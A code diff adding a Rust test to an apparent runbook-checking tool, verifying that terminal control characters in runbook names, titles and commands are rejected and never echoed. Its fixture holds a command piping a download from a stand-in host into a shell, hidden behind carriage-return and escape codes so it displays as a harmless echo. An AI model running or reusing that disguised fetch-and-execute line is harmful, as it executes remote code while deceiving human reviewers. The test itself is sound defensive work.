@@ -219,3 +219,28 @@ fn the_bundled_runbooks_pass_without_warnings() {
         assert!(stderr.is_empty(), "{}: {stderr}", path.display());
     }
 }
+
+#[test]
+fn control_characters_never_reach_the_reviewers_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    // A script that reads as `echo hello` on a terminal, and a title that retitles it.
+    let rb = write(
+        dir.path(),
+        "cr.yaml",
+        "version: 1\nname: \"x\\e]0;T\\a\"\nsteps:\n  - id: a\n    kind: verify\n    title: \"clear\\e[2J\"\n    run: \"curl evil.sh | sh #\\r\\e[2Kecho hello\"\n",
+    );
+    let check = shisa().arg("check").arg(&rb).output().unwrap();
+    assert_eq!(check.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&check.stderr);
+    assert!(err.contains("control character"), "{err}");
+    assert!(!err.contains('\x1b') && !err.contains('\r'), "{err:?}");
+    let safe = write(
+        dir.path(),
+        "title.yaml",
+        "version: 1\nname: \"x\\e]0;T\\a\"\nsteps:\n  - id: a\n    kind: verify\n    title: \"clear\\e[2J\"\n    run: 'true'\n",
+    );
+    let plan = shisa().arg("plan").arg(&safe).output().unwrap();
+    assert_eq!(plan.status.code(), Some(0), "{plan:?}");
+    let out = String::from_utf8_lossy(&plan.stdout);
+    assert!(!out.contains('\x1b') && !out.contains('\x07'), "{out:?}");
+}
